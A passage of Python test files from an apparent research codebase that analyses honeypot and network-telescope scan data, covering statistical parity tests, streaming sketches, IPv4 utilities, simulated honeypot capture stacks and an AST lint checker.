            row_dataset, **kwargs
        )

    def test_2020(self, dataset_2020, row_dataset_2020):
        assert neighborhood_report(dataset_2020) == neighborhood_report(
            row_dataset_2020
        )


class TestGeographyParity:
    @pytest.mark.parametrize("aggregate", ["median", "sum"])
    def test_region_profiles(self, dataset, row_dataset, aggregate):
        fast = build_region_profiles(dataset, aggregate=aggregate)
        legacy = build_region_profiles(row_dataset, aggregate=aggregate)
        assert fast == legacy

    def test_geo_similarity(self, dataset, row_dataset):
        assert geo_similarity(dataset) == geo_similarity(row_dataset)

    def test_most_different_regions(self, dataset, row_dataset):
        assert most_different_regions(dataset) == most_different_regions(row_dataset)

    def test_explicit_profiles_use_legacy_path(self, dataset, row_dataset):
        """Pre-built profiles (the ablation entry point) still work."""
        profiles = build_region_profiles(dataset)
        assert most_different_regions(
            dataset, profiles=profiles
        ) == most_different_regions(row_dataset)

    def test_2020(self, dataset_2020, row_dataset_2020):
        assert geo_similarity(dataset_2020) == geo_similarity(row_dataset_2020)
        assert most_different_regions(dataset_2020) == most_different_regions(
            row_dataset_2020
        )


class TestNetworkParity:
    def test_network_type_report(self, dataset, row_dataset):
        assert network_type_report(dataset) == network_type_report(row_dataset)

    def test_telescope_as_report(self, dataset, row_dataset):
        assert telescope_as_report(dataset) == telescope_as_report(row_dataset)

    def test_2020(self, dataset_2020, row_dataset_2020):
        assert network_type_report(dataset_2020) == network_type_report(
            row_dataset_2020
        )
        assert telescope_as_report(dataset_2020) == telescope_as_report(
            row_dataset_2020
        )


class TestTagParity:
    def test_tag_sources_values_and_order(self, dataset, row_dataset):
        fast = tag_sources(dataset)
        legacy = tag_sources(row_dataset)
        assert fast == legacy
        # Dict ordering is part of the contract: downstream reports
        # iterate sources in first-observation order.
        assert list(fast) == list(legacy)

    def test_tag_distribution(self, dataset, row_dataset):
        assert tag_distribution(tag_sources(dataset)) == tag_distribution(
            tag_sources(row_dataset)
        )

    def test_2020(self, dataset_2020, row_dataset_2020):
        fast = tag_sources(dataset_2020)
        legacy = tag_sources(row_dataset_2020)
        assert fast == legacy and list(fast) == list(legacy)


class TestCampaignParity:
    @pytest.mark.parametrize("min_size", [1, 2, 5])
    def test_min_size_variants(self, dataset, row_dataset, min_size):
        assert infer_campaigns(dataset, min_size=min_size) == infer_campaigns(
            row_dataset, min_size=min_size
        )

    def test_2020(self, dataset_2020, row_dataset_2020):
        assert infer_campaigns(dataset_2020, min_size=2) == infer_campaigns(
            row_dataset_2020, min_size=2
        )


class TestCommandParity:
    @pytest.mark.parametrize("top", [1, 3, 10, 25])
    def test_summary(self, dataset, row_dataset, top):
        fast = command_summary(dataset, top=top)
        legacy = command_summary(row_dataset, top=top)
        assert fast == legacy
        assert fast.top_commands == legacy.top_commands  # order included

    def test_2020(self, dataset_2020, row_dataset_2020):
        assert command_summary(dataset_2020) == command_summary(row_dataset_2020)


class TestLeakParity:
    def test_leak_report(self, dataset, row_dataset):
        assert leak_report(dataset) == leak_report(row_dataset)

    def test_leak_report_alpha(self, dataset, row_dataset):
        assert leak_report(dataset, alpha=0.01) == leak_report(row_dataset, alpha=0.01)

    @pytest.mark.parametrize("port", [22, 23, 80])
    def test_unique_credentials(self, dataset, row_dataset, port):
        fast = unique_credentials_per_group(dataset, port=port)
        legacy = unique_credentials_per_group(row_dataset, port=port)
        assert fast == legacy
        assert list(fast) == list(legacy)


class TestMatrixInternals:
    """Cheap invariants on the engine itself (not just its callers)."""

    def test_counts_match_counters(self, dataset):
        """Matrix rows reproduce exact per-vantage category counts."""
        from collections import Counter

        engine = dataset.contingency()
        vantage_id = next(
            vid for vid, table in dataset.tables.items()
            if len(table) and engine.row(vid) is not None
        )
        events = [e for e in dataset.events if e.vantage_id == vantage_id]
        expected = Counter(e.src_asn for e in events)
        row = engine.row(vantage_id)
        got = engine.counter("any_all", "as", [row])
        assert got == expected

    def test_events_row_sums(self, dataset):
        """Each event carries exactly one AS, so AS-matrix row sums are
        the per-vantage event counts of the slice."""
        engine = dataset.contingency()
        for slice_key in ("ssh22", "telnet23", "http80", "any_all"):
            counts = engine.counts[(slice_key, "as")]
            np.testing.assert_array_equal(
                counts.sum(axis=1), engine.events[slice_key]
            )
