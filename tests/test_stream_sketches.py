"""Property tests for the streaming sketches (Space-Saving, HLL).

The Space-Saving guarantees under test are the provable ones from
Metwally et al.: every estimate overestimates by at most ``n/k``, any
category whose true count exceeds ``n/k`` is monitored, and with ``k``
at least the number of distinct categories the sketch is exact.
"""

from collections import Counter

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.stats.contingency import chi_square_test
from repro.stats.topk import top_k, union_table
from repro.stream.sketches import HyperLogLog, SpaceSavingSketch, StreamingContingency

#: Streams over a small alphabet force plenty of evictions at small k.
streams = st.lists(st.integers(min_value=0, max_value=30), max_size=300)
capacities = st.integers(min_value=1, max_value=16)


class TestSpaceSavingProperties:
    @given(stream=streams, k=capacities)
    @settings(max_examples=200, deadline=None)
    def test_error_bounded_by_n_over_k(self, stream, k):
        """0 <= estimate - true <= n/k for every category in the stream."""
        sketch = SpaceSavingSketch(k)
        for category in stream:
            sketch.update(category)
        exact = Counter(stream)
        assert sketch.total == len(stream)
        bound = sketch.error_bound
        for category, true_count in exact.items():
            estimate = sketch.estimate(category)
            if estimate:  # monitored: an overestimate within the bound
                assert true_count <= estimate <= true_count + bound
                assert sketch.error(category) <= bound
            else:  # unmonitored: true count can't exceed the bound
                assert true_count <= bound

    @given(stream=streams, k=capacities)
    @settings(max_examples=200, deadline=None)
    def test_counts_monotone_nondecreasing(self, stream, k):
        """Totals and per-category estimates never decrease as the
        stream grows."""
        sketch = SpaceSavingSketch(k)
        previous_total = 0.0
        previous_estimates: dict = {}
        for category in stream:
            sketch.update(category)
            assert sketch.total == previous_total + 1
            previous_total = sketch.total
            estimate = sketch.estimate(category)
            assert estimate >= previous_estimates.get(category, 0.0)
            previous_estimates[category] = estimate

    @given(stream=streams, k=capacities)
    @settings(max_examples=200, deadline=None)
    def test_heavy_hitters_always_monitored(self, stream, k):
        """Any category with true count > n/k is guaranteed monitored,
        so the sketch's top-k is a superset of the exact heavy hitters."""
        sketch = SpaceSavingSketch(k)
        exact = Counter(stream)
        for category in stream:
            sketch.update(category)
        monitored = set(sketch.counts())
        heavy = {c for c, n in exact.items() if n > sketch.error_bound}
        assert heavy <= monitored
        assert heavy <= set(sketch.top(k))

    @given(stream=streams)
    @settings(max_examples=200, deadline=None)
    def test_exact_when_k_covers_distinct(self, stream):
        """With k >= distinct categories the sketch IS the exact counter
        (the property the streaming §3.3 consistency relies on)."""
        exact = Counter(stream)
        sketch = SpaceSavingSketch(max(1, len(exact)))
        for category in stream:
            sketch.update(category)
        assert sketch.counts() == {c: float(n) for c, n in exact.items()}
        assert sketch.top(3) == top_k(exact, 3)
        for category in exact:
            assert sketch.error(category) == 0.0

    @given(stream=streams, k=capacities)
    @settings(max_examples=100, deadline=None)
    def test_chunked_updates_match_itemwise(self, stream, k):
        """update_counts over per-chunk Counters gives the same sketch
        as item-at-a-time updates in the deterministic order."""
        itemwise = SpaceSavingSketch(k)
        for chunk_start in range(0, len(stream), 7):
            chunk = Counter(stream[chunk_start:chunk_start + 7])
            for category in sorted(chunk, key=repr):
                itemwise.update(category, chunk[category])
        chunked = SpaceSavingSketch(k)
        for chunk_start in range(0, len(stream), 7):
            chunked.update_counts(Counter(stream[chunk_start:chunk_start + 7]))
        assert chunked.counts() == itemwise.counts()

    def test_weighted_updates(self):
        sketch = SpaceSavingSketch(2)
        sketch.update("a", 5.0)
        sketch.update("b", 3.0)
        sketch.update("c", 1.0)  # evicts b (min), inherits 3.0 as floor
        assert sketch.estimate("c") == 4.0
        assert sketch.error("c") == 3.0
        assert sketch.total == 9.0

    def test_rejects_bad_k(self):
        with pytest.raises(ValueError):
            SpaceSavingSketch(0)


class TestHyperLogLog:
    @pytest.mark.parametrize("true_count", [50, 500, 20000])
    def test_estimate_within_tolerance(self, true_count):
        hll = HyperLogLog(p=12)
        hll.add_ints(np.arange(true_count, dtype=np.int64) * 2654435761 % (1 << 48))
        # Standard error is ~1.04/sqrt(2^12) ≈ 1.6%; allow 5 sigma.
        assert abs(hll.estimate() - true_count) <= max(5, 0.081 * true_count)

    def test_duplicates_do_not_inflate(self):
        hll = HyperLogLog(p=10)
        values = np.arange(100, dtype=np.int64)
        for _pass in range(5):
            hll.add_ints(values)
        assert abs(hll.estimate() - 100) <= 10

    def test_deterministic_across_instances(self):
        a, b = HyperLogLog(p=8), HyperLogLog(p=8)
        a.add_ints(np.arange(1000))
        b.add_ints(np.arange(1000))
        assert a.estimate() == b.estimate()

    def test_object_and_int_ingest(self):
        hll = HyperLogLog(p=10)
        hll.add("username")
        hll.add(b"payload")
        hll.add(42)
        assert 2.5 <= hll.estimate() <= 3.5

    def test_state_is_bounded(self):
        hll = HyperLogLog(p=12)
        hll.add_ints(np.arange(100000))
        assert hll.state_bytes() == 4096

    def test_rejects_bad_precision(self):
        with pytest.raises(ValueError):
            HyperLogLog(p=3)


class TestStreamingContingency:
    @given(
        data=st.lists(
            st.tuples(st.sampled_from(["v1", "v2", "v3"]),
                      st.integers(min_value=0, max_value=12)),
            min_size=1, max_size=200,
        )
    )
    @settings(max_examples=100, deadline=None)
    def test_matches_batch_chi_square_when_exact(self, data):
        """With sketch_k >= distinct categories the streamed union-table
        comparison is bit-identical to the batch one."""
        contingency = StreamingContingency(sketch_k=64)
        exact: dict[str, Counter] = {}
        for group, category in data:
            contingency.update(group, category)
            exact.setdefault(group, Counter())[category] += 1
        batch_counts = {g: dict(c) for g, c in exact.items()}
        streamed = contingency.chi_square(3)
        batch = chi_square_test(union_table(batch_counts, 3)[0])
        if batch.valid:
            assert streamed.phi == batch.phi
            assert streamed.p_value == batch.p_value
            assert streamed.sample_size == batch.sample_size
        else:
            assert not streamed.valid
        for group in exact:
            assert contingency.top(group, 3) == top_k(exact[group], 3)

    def test_state_accounting(self):
        contingency = StreamingContingency(sketch_k=8)
        contingency.update("v1", "root")
        contingency.update("v2", "admin")
        assert contingency.total() == 2.0
        assert contingency.state_bytes() > 0
        assert contingency.groups() == ["v1", "v2"]
