"""Unit and property tests for repro.net.addresses."""

import numpy as np
import pytest
from hypothesis import given, strategies as st

from repro.net.addresses import (
    IPv4Address,
    Prefix,
    ends_in_255,
    has_255_octet,
    int_to_ip,
    ip_to_int,
    is_first_of_slash16,
    is_first_of_slash24,
    octets_of,
    rolling_average,
    summarize_structures,
    vector_ends_in_255,
    vector_has_255_octet,
    vector_is_first_of_slash16,
)

addresses = st.integers(min_value=0, max_value=(1 << 32) - 1)


class TestParsing:
    def test_parse_simple(self):
        assert ip_to_int("0.0.0.0") == 0
        assert ip_to_int("255.255.255.255") == (1 << 32) - 1
        assert ip_to_int("1.2.3.4") == 0x01020304

    def test_format_simple(self):
        assert int_to_ip(0x01020304) == "1.2.3.4"
        assert int_to_ip(0) == "0.0.0.0"

    @pytest.mark.parametrize("bad", ["", "1.2.3", "1.2.3.4.5", "256.0.0.1", "a.b.c.d", "1..2.3"])
    def test_parse_rejects_invalid(self, bad):
        with pytest.raises(ValueError):
            ip_to_int(bad)

    def test_format_rejects_out_of_range(self):
        with pytest.raises(ValueError):
            int_to_ip(1 << 32)
        with pytest.raises(ValueError):
            int_to_ip(-1)

    @given(addresses)
    def test_round_trip(self, value):
        assert ip_to_int(int_to_ip(value)) == value

    @given(addresses)
    def test_octets_reassemble(self, value):
        a, b, c, d = octets_of(value)
        assert (a << 24) | (b << 16) | (c << 8) | d == value
        assert all(0 <= octet <= 255 for octet in (a, b, c, d))


class TestStructurePredicates:
    def test_has_255_octet_positions(self):
        assert has_255_octet(ip_to_int("255.0.0.1"))
        assert has_255_octet(ip_to_int("1.255.0.1"))
        assert has_255_octet(ip_to_int("1.0.255.1"))
        assert has_255_octet(ip_to_int("1.0.0.255"))
        assert not has_255_octet(ip_to_int("1.2.3.4"))

    def test_ends_in_255(self):
        assert ends_in_255(ip_to_int("10.0.0.255"))
        assert not ends_in_255(ip_to_int("255.0.0.1"))

    def test_first_of_slash16(self):
        assert is_first_of_slash16(ip_to_int("10.20.0.0"))
        assert not is_first_of_slash16(ip_to_int("10.20.0.1"))
        assert not is_first_of_slash16(ip_to_int("10.20.1.0"))

    def test_first_of_slash24(self):
        assert is_first_of_slash24(ip_to_int("10.20.30.0"))
        assert not is_first_of_slash24(ip_to_int("10.20.30.1"))

    @given(addresses)
    def test_ends_in_255_implies_has_255(self, value):
        if ends_in_255(value):
            assert has_255_octet(value)

    @given(st.lists(addresses, min_size=1, max_size=64))
    def test_vector_predicates_match_scalar(self, values):
        array = np.asarray(values, dtype=np.uint32)
        assert list(vector_has_255_octet(array)) == [has_255_octet(v) for v in values]
        assert list(vector_ends_in_255(array)) == [ends_in_255(v) for v in values]
        assert list(vector_is_first_of_slash16(array)) == [is_first_of_slash16(v) for v in values]

    def test_summarize_structures(self):
        ips = [ip_to_int(x) for x in ("10.0.0.255", "10.255.0.1", "10.1.0.0", "1.2.3.4")]
        summary = summarize_structures(ips)
        assert summary["total"] == 4
        assert summary["has_255_octet"] == 2
        assert summary["ends_in_255"] == 1
        assert summary["first_of_slash16"] == 1


class TestIPv4Address:
    def test_properties(self):
        addr = IPv4Address.parse("192.0.2.255")
        assert addr.ends_in_255 and addr.has_255_octet
        assert str(addr) == "192.0.2.255"
        assert int(addr) == ip_to_int("192.0.2.255")
        assert addr.octets == (192, 0, 2, 255)

    def test_ordering(self):
        assert IPv4Address.parse("1.0.0.1") < IPv4Address.parse("1.0.0.2")

    def test_rejects_out_of_range(self):
        with pytest.raises(ValueError):
            IPv4Address(1 << 32)


class TestPrefix:
    def test_parse_and_membership(self):
        net = Prefix.parse("198.51.100.0/26")
        assert net.num_addresses == 64
        assert ip_to_int("198.51.100.0") in net
        assert ip_to_int("198.51.100.63") in net
        assert ip_to_int("198.51.100.64") not in net

    def test_host_bits_rejected(self):
        with pytest.raises(ValueError):
            Prefix(ip_to_int("10.0.0.1"), 24)

    def test_invalid_length(self):
        with pytest.raises(ValueError):
            Prefix(0, 33)

    def test_missing_length(self):
        with pytest.raises(ValueError):
            Prefix.parse("10.0.0.0")

    def test_first_last(self):
        net = Prefix.parse("10.0.0.0/24")
        assert int_to_ip(net.first) == "10.0.0.0"
        assert int_to_ip(net.last) == "10.0.0.255"

    def test_iteration_matches_len(self):
        net = Prefix.parse("10.0.0.0/29")
        assert len(list(net)) == len(net) == 8

    def test_addresses_array(self):
        net = Prefix.parse("10.0.0.0/30")
        assert list(net.addresses()) == [net.first + i for i in range(4)]

    def test_subnets(self):
        net = Prefix.parse("10.0.0.0/24")
        subnets = list(net.subnets(26))
        assert len(subnets) == 4
        assert str(subnets[1]) == "10.0.0.64/26"

    def test_subnets_invalid(self):
        with pytest.raises(ValueError):
            list(Prefix.parse("10.0.0.0/24").subnets(23))

    def test_zero_length_prefix_contains_everything(self):
        net = Prefix(0, 0)
        assert ip_to_int("255.255.255.255") in net

    @given(addresses, st.integers(min_value=0, max_value=32))
    def test_network_address_always_member(self, value, length):
        mask = 0 if length == 0 else (((1 << 32) - 1) << (32 - length)) & ((1 << 32) - 1)
        net = Prefix(value & mask, length)
        assert net.first in net
        assert net.last in net


class TestRollingAverage:
    def test_constant_series(self):
        out = rolling_average(np.ones(100), 10)
        assert out.shape == (100,)
        assert np.allclose(out, 1.0)

    def test_partial_head_window(self):
        out = rolling_average(np.arange(5, dtype=float), 2)
        assert np.allclose(out, [0.0, 0.5, 1.5, 2.5, 3.5])

    def test_window_larger_than_series(self):
        out = rolling_average(np.arange(3, dtype=float), 512)
        assert np.allclose(out, [0.0, 0.5, 1.0])

    def test_empty(self):
        assert rolling_average(np.array([]), 4).size == 0

    def test_invalid_window(self):
        with pytest.raises(ValueError):
            rolling_average(np.ones(3), 0)

    @given(st.lists(st.floats(min_value=0, max_value=1e6), min_size=1, max_size=200),
           st.integers(min_value=1, max_value=64))
    def test_output_within_range(self, values, window):
        out = rolling_average(np.asarray(values), window)
        assert out.shape == (len(values),)
        assert out.min() >= min(values) - 1e-6
        assert out.max() <= max(values) + 1e-6
