"""Tests for honeypot capture stacks and the telescope aggregate."""

import numpy as np
import pytest

from repro.honeypots.base import VantageCapture, VantagePoint
from repro.honeypots.cowrie import COWRIE_PORTS, CowrieStack
from repro.honeypots.greynoise import GREYNOISE_DEFAULT_PORTS, GreyNoiseStack
from repro.honeypots.honeytrap import HoneytrapStack
from repro.honeypots.telescope import TelescopeCapture, TelescopeStack
from repro.sim.events import Credential, NetworkKind, ScanIntent


def make_vantage(stack, ips=(1000,), kind=NetworkKind.CLOUD):
    return VantagePoint(
        vantage_id="v-0",
        network="aws",
        kind=kind,
        region_code="US-CA",
        continent="NA",
        ips=np.asarray(ips, dtype=np.uint32),
        stack=stack,
    )


def ssh_intent(port=22, credentials=((Credential("root", "123456"),))):
    return ScanIntent(
        timestamp=1.0, src_ip=7, dst_ip=1000, dst_port=port,
        protocol="ssh", payload=b"SSH-2.0-Go\r\n",
        credentials=tuple(credentials) if credentials else (),
    )


def http_intent(port=80):
    return ScanIntent(
        timestamp=2.0, src_ip=7, dst_ip=1000, dst_port=port,
        protocol="http", payload=b"GET / HTTP/1.1\r\n\r\n",
    )


class TestCowrie:
    def test_observes_default_ports(self):
        stack = CowrieStack()
        assert all(stack.observes(port) for port in COWRIE_PORTS)
        assert not stack.observes(80)

    def test_captures_credentials(self):
        stack = CowrieStack()
        event = stack.capture(ssh_intent(), make_vantage(stack), src_asn=4134)
        assert event.credentials == (("root", "123456"),)
        assert event.handshake
        assert event.src_asn == 4134

    def test_banner_only_session_recorded_without_credentials(self):
        stack = CowrieStack()
        event = stack.capture(ssh_intent(credentials=()), make_vantage(stack), 1)
        assert event.credentials == ()
        assert event.payload.startswith(b"SSH-")
        assert not event.attempted_login


class TestHoneytrap:
    def test_observes_all_ports(self):
        stack = HoneytrapStack()
        assert stack.observes(1) and stack.observes(65535)

    def test_first_payload_no_credentials(self):
        stack = HoneytrapStack()
        event = stack.capture(ssh_intent(), make_vantage(stack), 1)
        assert event.payload.startswith(b"SSH-")
        assert event.credentials == ()  # Honeytrap cannot observe logins

    def test_interactive_ports_capture_credentials(self):
        stack = HoneytrapStack(interactive_ports=frozenset({22}))
        event = stack.capture(ssh_intent(), make_vantage(stack), 1)
        assert event.credentials == (("root", "123456"),)
        other = stack.capture(ssh_intent(port=2222), make_vantage(stack), 1)
        assert other.credentials == ()


class TestGreyNoise:
    def test_default_ports(self):
        stack = GreyNoiseStack()
        for port in (22, 23, 80, 443):
            assert stack.observes(port)
        assert not stack.observes(5900)

    def test_cowrie_ports_capture_credentials(self):
        stack = GreyNoiseStack()
        event = stack.capture(ssh_intent(), make_vantage(stack), 1)
        assert event.credentials == (("root", "123456"),)

    def test_non_cowrie_ports_payload_only(self):
        stack = GreyNoiseStack()
        intent = ScanIntent(
            timestamp=1.0, src_ip=7, dst_ip=1000, dst_port=80,
            protocol="telnet", payload=b"\xff\xfb\x1f",
            credentials=(Credential("root", "root"),),
        )
        event = stack.capture(intent, make_vantage(stack), 1)
        assert event.payload == b"\xff\xfb\x1f"
        assert event.credentials == ()  # no login emulation off the Cowrie ports

    def test_requires_ports(self):
        with pytest.raises(ValueError):
            GreyNoiseStack(frozenset())

    def test_restricted_port_set(self):
        stack = GreyNoiseStack(frozenset({22, 23}))
        assert stack.observes(22) and not stack.observes(80)


class TestTelescopeStack:
    def test_never_completes_handshake(self):
        stack = TelescopeStack()
        assert not stack.completes_handshake

    def test_captures_headers_only(self):
        stack = TelescopeStack()
        event = stack.capture(http_intent(), make_vantage(stack, kind=NetworkKind.TELESCOPE), 1)
        assert event.payload == b""
        assert not event.handshake
        assert event.dst_port == 80

    def test_observes_every_port(self):
        assert TelescopeStack().observes(17128)


class TestVantageCapture:
    def test_records_observed_ports_only(self):
        stack = GreyNoiseStack(frozenset({22}))
        capture = VantageCapture(make_vantage(stack))
        assert capture.record(ssh_intent(port=22), 1) is not None
        assert capture.record(http_intent(port=80), 1) is None
        assert len(capture) == 1

    def test_vantage_requires_ips(self):
        with pytest.raises(ValueError):
            make_vantage(HoneytrapStack(), ips=())


class TestTelescopeCapture:
    def _capture(self, num_ips=256):
        vantage = make_vantage(
            TelescopeStack(), ips=tuple(range(5000, 5000 + num_ips)),
            kind=NetworkKind.TELESCOPE,
        )
        return TelescopeCapture(vantage)

    def test_source_hit_aggregation(self):
        capture = self._capture()
        sources = np.asarray([11, 12], dtype=np.uint32)
        asns = np.asarray([100, 200])
        capture.record_source_hits(22, sources, asns, np.asarray([5, 0]))
        assert capture.sources_on_port(22) == {11}
        assert capture.port_src_hits[22][11] == 5

    def test_as_counts(self):
        capture = self._capture()
        capture.record_source_hits(
            22, np.asarray([11, 12, 13]), np.asarray([100, 100, 200]), np.asarray([5, 2, 1])
        )
        counts = capture.as_counts(22)
        assert counts[100] == 7 and counts[200] == 1

    def test_destination_sources_accumulate(self):
        capture = self._capture(num_ips=4)
        capture.record_destination_sources(80, np.asarray([1, 0, 2, 0]))
        capture.record_destination_sources(80, np.asarray([1, 1, 0, 0]))
        assert capture.unique_sources_per_destination(80).tolist() == [2, 1, 2, 0]

    def test_destination_misalignment_rejected(self):
        capture = self._capture(num_ips=4)
        with pytest.raises(ValueError):
            capture.record_destination_sources(80, np.asarray([1, 2]))

    def test_totals(self):
        capture = self._capture()
        capture.record_source_hits(22, np.asarray([1]), np.asarray([10]), np.asarray([1]))
        capture.record_source_hits(23, np.asarray([2]), np.asarray([20]), np.asarray([3]))
        assert capture.total_unique_sources() == 2
        assert capture.total_unique_ases() == 2
        assert capture.ports() == [22, 23]
