"""Tests for repro.lint: the AST invariant checker.

Three layers:

* per-rule fixtures — each rule family gets a minimal positive source
  (the violation fires), a suppressed variant (``# lint: disable``), and
  a baselined variant (the same finding grandfathered);
* the full pass — the repo's own ``src/`` must be clean against the
  checked-in baseline, and the baseline must stay small;
* the contract — CLI exit codes, the JSON schema, the rule catalog.
"""

import json
from pathlib import Path

import pytest

from repro.cli import main as cli_main
from repro.lint import run_lint
from repro.lint.baseline import load_baseline, write_baseline
from repro.lint.cli import rule_catalog
from repro.lint.engine import SYNTAX_ERROR_CODE

REPO_ROOT = Path(__file__).resolve().parent.parent


def build_tree(root: Path, files: dict[str, str]) -> Path:
    for rel_path, source in files.items():
        target = root / rel_path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(source, encoding="utf-8")
    return root


# -- one minimal violating source per rule family -----------------------

LOCK_VIOLATION = """\
class LiveBackend:
    def __init__(self, analyzer, lock):
        self._lock = lock
        self.analyzer = analyzer

    def counts(self):
        return self.analyzer.estimate()
"""

FIXTURES = [
    ("RNG001", "repro/analysis/f_rng001.py",
     "import random\n\nVALUE = 3\n"),
    ("RNG002", "repro/analysis/f_rng002.py",
     "import numpy as np\n\nnp.random.seed(1234)\n"),
    ("RNG003", "repro/analysis/f_rng003.py",
     "import numpy as np\n\nrng = np.random.default_rng(7)\n"),
    ("DET001", "repro/analysis/f_det001.py",
     "import time\n\n\ndef stamp():\n    return time.time()\n"),
    ("DET002", "repro/runner/f_det002.py",
     "import os\n\n\ndef shards(root):\n"
     "    return [name for name in os.listdir(root)]\n"),
    ("DET003", "repro/analysis/f_det003.py",
     "def merge_counts(parts):\n    total = 0\n"
     "    for key in {1, 2, 3}:\n        total += key\n    return total\n"),
    ("LCK001", "repro/serve/backends.py", LOCK_VIOLATION),
    ("COL001", "repro/experiments/f_col001.py",
     "def map_shard(view):\n    rows = []\n"
     "    for table in view.tables.values():\n"
     "        rows.extend(table.iter_events())\n    return rows\n"),
    ("EXC001", "repro/analysis/f_exc001.py",
     "def load(path):\n    try:\n        return open(path)\n"
     "    except:\n        return None\n"),
    ("EXC002", "repro/runner/f_exc002.py",
     "def poll(step):\n    try:\n        step()\n"
     "    except ValueError:\n        pass\n"),
]


class TestRuleFixtures:
    @pytest.mark.parametrize("code,rel_path,source",
                             FIXTURES, ids=[f[0] for f in FIXTURES])
    def test_positive(self, tmp_path, code, rel_path, source):
        build_tree(tmp_path, {rel_path: source})
        report = run_lint(tmp_path)
        assert [f.code for f in report.findings] == [code]
        finding = report.findings[0]
        assert finding.path == rel_path
        assert finding.line >= 1
        assert finding.snippet  # the baseline key is never empty

    @pytest.mark.parametrize("code,rel_path,source",
                             FIXTURES, ids=[f[0] for f in FIXTURES])
    def test_suppressed(self, tmp_path, code, rel_path, source):
        build_tree(tmp_path, {rel_path: source})
        line = run_lint(tmp_path).findings[0].line
        lines = source.splitlines()
        lines[line - 1] += f"  # lint: disable={code} - fixture"
        build_tree(tmp_path, {rel_path: "\n".join(lines) + "\n"})
        report = run_lint(tmp_path)
        assert report.findings == []
        assert report.suppressed == 1

    @pytest.mark.parametrize("code,rel_path,source",
                             FIXTURES, ids=[f[0] for f in FIXTURES])
    def test_baselined(self, tmp_path, code, rel_path, source):
        build_tree(tmp_path, {rel_path: source})
        first = run_lint(tmp_path)
        baseline_path = tmp_path.parent / f"{tmp_path.name}-baseline.json"
        write_baseline(baseline_path, first.findings)
        report = run_lint(tmp_path, baseline_entries=load_baseline(baseline_path))
        assert report.findings == []
        assert [f.code for f in report.baselined] == [code]
        assert report.unused_baseline == []

    def test_syntax_error_becomes_finding(self, tmp_path):
        build_tree(tmp_path, {"repro/broken.py": "def broken(:\n    pass\n"})
        report = run_lint(tmp_path)
        assert [f.code for f in report.findings] == [SYNTAX_ERROR_CODE]

    def test_stale_baseline_entry_reported(self, tmp_path):
        code, rel_path, source = FIXTURES[0]
        build_tree(tmp_path, {rel_path: source})
        baseline_path = tmp_path.parent / f"{tmp_path.name}-baseline.json"
        write_baseline(baseline_path, run_lint(tmp_path).findings)
        build_tree(tmp_path, {rel_path: "VALUE = 3\n"})  # violation fixed
        report = run_lint(tmp_path, baseline_entries=load_baseline(baseline_path))
        assert report.findings == []
        assert len(report.unused_baseline) == 1
        assert report.unused_baseline[0]["code"] == code

    def test_baseline_entry_absorbs_exactly_one_finding(self, tmp_path):
        code, rel_path, source = FIXTURES[3]  # DET001: time.time()
        build_tree(tmp_path, {rel_path: source})
        baseline_path = tmp_path.parent / f"{tmp_path.name}-baseline.json"
        write_baseline(baseline_path, run_lint(tmp_path).findings)
        doubled = source + "\n\ndef stamp_again():\n    return time.time()\n"
        build_tree(tmp_path, {rel_path: doubled})
        report = run_lint(tmp_path, baseline_entries=load_baseline(baseline_path))
        # same (path, code, snippet) key twice, one budgeted entry: the
        # duplicated pattern is a fresh violation, not grandfathered.
        assert len(report.baselined) == 1
        assert [f.code for f in report.findings] == [code]


CLEAN_SOURCES = {
    # a Generator parameter is the sanctioned way to take randomness
    "repro/analysis/ok_rng.py":
        "import numpy as np\n\n\ndef draw(rng: np.random.Generator):\n"
        "    return rng.integers(0, 10)\n",
    # the stream registry itself may construct generators
    "repro/sim/rng.py":
        "import numpy as np\n\n\ndef make():\n"
        "    return np.random.default_rng(0)\n",
    # sorted() wrapping makes directory order explicit
    "repro/runner/ok_sorted.py":
        "import os\n\n\ndef shards(root):\n"
        "    return sorted(os.listdir(root))\n",
    # monotonic clocks are fine; only wall clocks are banned
    "repro/analysis/ok_clock.py":
        "import time\n\n\ndef tick():\n    return time.perf_counter()\n",
    # iterating a sorted() of a set is ordered
    "repro/analysis/ok_merge.py":
        "def merge_counts(parts):\n    total = 0\n"
        "    for key in sorted({1, 2, 3}):\n        total += key\n"
        "    return total\n",
    # lock discipline: with-block or the explicit marker
    "repro/serve/backends.py":
        "class LiveBackend:\n"
        "    def __init__(self, analyzer, lock):\n"
        "        self._lock = lock\n"
        "        self.analyzer = analyzer\n\n"
        "    def counts(self):\n"
        "        with self._lock:\n"
        "            return self.analyzer.estimate()\n\n"
        "    @requires_ingest_lock\n"
        "    def _peek(self):\n"
        "        return self.analyzer.estimate()\n",
    # a handler that accounts for the exception is not silent
    "repro/runner/ok_accounted.py":
        "def poll(step, stats):\n    try:\n        step()\n"
        "    except ValueError:\n"
        "        stats['errors'] = stats.get('errors', 0) + 1\n",
}


class TestCleanSources:
    def test_sanctioned_patterns_do_not_fire(self, tmp_path):
        build_tree(tmp_path, CLEAN_SOURCES)
        report = run_lint(tmp_path)
        assert report.findings == []
        assert report.files_scanned == len(CLEAN_SOURCES)


class TestFullPass:
    """The repo's own source must satisfy its own invariants."""

    def test_src_is_clean_against_checked_in_baseline(self):
        src = REPO_ROOT / "src"
        baseline = REPO_ROOT / "lint-baseline.json"
        entries = load_baseline(baseline)
        report = run_lint(src, baseline_entries=entries)
        assert report.findings == [], [f.render() for f in report.findings]
        assert report.unused_baseline == []

    def test_baseline_stays_small(self):
        entries = load_baseline(REPO_ROOT / "lint-baseline.json")
        assert len(entries) <= 5


class TestCli:
    def test_clean_tree_exits_zero(self, tmp_path, capsys):
        build_tree(tmp_path, {"repro/ok.py": "VALUE = 3\n"})
        assert cli_main(["lint", str(tmp_path), "--no-baseline"]) == 0
        assert "clean" in capsys.readouterr().out

    def test_deliberate_violation_exits_one(self, tmp_path, capsys):
        build_tree(tmp_path, {
            "repro/experiments/driver.py":
                "import numpy as np\n\nrng = np.random.default_rng(99)\n",
        })
        assert cli_main(["lint", str(tmp_path), "--no-baseline"]) == 1
        assert "RNG003" in capsys.readouterr().out

    def test_missing_target_exits_two(self, tmp_path, capsys):
        assert cli_main(["lint", str(tmp_path / "nope")]) == 2
        assert "does not exist" in capsys.readouterr().err

    def test_unreadable_baseline_exits_two(self, tmp_path, capsys):
        build_tree(tmp_path, {"repro/ok.py": "VALUE = 3\n"})
        bad = tmp_path / "baseline.json"
        bad.write_text('{"version": 99, "findings": []}', encoding="utf-8")
